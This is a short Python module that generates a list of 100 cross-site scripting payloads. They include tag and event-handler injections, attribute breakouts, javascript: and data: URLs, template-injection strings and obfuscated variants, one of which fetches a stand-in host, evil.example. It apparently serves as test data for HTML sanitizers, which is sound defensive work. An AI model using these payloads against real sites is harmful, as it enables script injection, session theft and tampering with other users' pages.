"""A hundred texts that run as script where a page takes text for markup."""

from __future__ import annotations

_TAGS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
]
_WRAPS = ["{}", '">{}', "'>{}", "</textarea></title>{}"]
_CODE = ["alert(1)", "window.owned=1", "fetch('//evil.example')", "document.title='owned'"]

_OTHERS = [
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onclick='alert(1)",
    "http://[::1]/<img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "@<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
]

PAYLOADS: list[str] = [
    *(_WRAPS[n % len(_WRAPS)].format(tag.format(_CODE[n % len(_CODE)])) for n, tag in enumerate(_TAGS * 3)),
    *_OTHERS,
]
